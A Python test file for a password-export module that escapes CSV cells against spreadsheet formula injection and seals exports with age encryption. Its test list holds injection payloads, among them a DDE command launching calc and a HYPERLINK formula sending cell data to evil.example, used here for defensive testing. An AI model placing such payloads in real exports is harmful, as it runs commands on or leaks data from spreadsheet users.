"""A file of passwords: no spreadsheet executes it, and nothing in it is lost."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from botrix.errors import InvalidInput
from botrix.export import COLUMNS, as_csv, harmless, read_recipient, sealed_for
from botrix.passwords import DEFAULT_POLICY

_EVIL = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "＋1", "－1",
    "＠a", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "a;=1+1",
    'a",=1+1,"', "a\n=1+1", "a\t@b", "\0=1", "|=1", "a; =1", "'=1", "''=1", ",'=1", "=1;=1",
]  # fmt: skip
_STARTS = tuple("=+-@\t\r\n\0＝＋－＠")
_odd = st.text("=+-@'\t\r\n\0 ,;|\"＝ab", max_size=12) | st.text(max_size=12)


def _read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))


def _plain(cell: str) -> str:
    """As the module's docstring tells whoever reads the file by a program."""
    return re.sub(r"(^|[,;|\t\r\n])'", r"\1", cell)


def _cells(text: str) -> list[str]:
    """Whatever a spreadsheet may take for a cell, whichever separator it goes by."""
    return [text, *re.split(r"[,;|\t\r\n]", text)]


@pytest.mark.parametrize("evil", _EVIL)
def test_nothing_is_executed(evil: str) -> None:
    for cell in _cells(harmless(evil)):
        assert not cell.lstrip().startswith(_STARTS), cell
    assert _plain(harmless(evil)) == evil


@given(_odd)
def test_any_cell_is_harmless_and_reads_back(text: str) -> None:
    made = harmless(text)
    assert not any(cell.lstrip(" ").startswith(_STARTS) for cell in _cells(made))
    assert _plain(made) == text


@given(st.lists(st.lists(_odd, min_size=6, max_size=6), max_size=5))
def test_a_file_reads_back(rows: list[list[str]]) -> None:
    head, *read = _read(as_csv(rows))
    assert head == list(COLUMNS)
    assert [[_plain(cell) for cell in row] for row in read] == rows


def test_what_botrix_makes_up_stays_as_it_is() -> None:
    for password in (DEFAULT_POLICY.new() for _ in range(1000)):
        assert harmless(password) == password
    assert harmless("ada.osei@school.example") == "ada.osei@school.example"
    assert harmless("Zoë O'Hara-Ångström") == "Zoë O'Hara-Ångström"


def test_an_age_file_opens_for_its_recipient_alone() -> None:
    pyrage = pytest.importorskip("pyrage")
    mine, other = (pyrage.x25519.Identity.generate() for _ in range(2))
    sealed = sealed_for(read_recipient(str(mine.to_public())), b"secret")
    assert sealed.startswith(b"age-encryption.org/v1\n")
    assert b"secret" not in sealed
    assert pyrage.decrypt(sealed, [mine]) == b"secret"
    with pytest.raises(pyrage.DecryptError):
        pyrage.decrypt(sealed, [other])
    for text in ("", "age1x", str(mine), str(mine.to_public())[:-1], "ssh-ed25519 AAAA"):
        with pytest.raises(InvalidInput) as refused:
            read_recipient(text)
        assert not text or text not in str(refused.value)
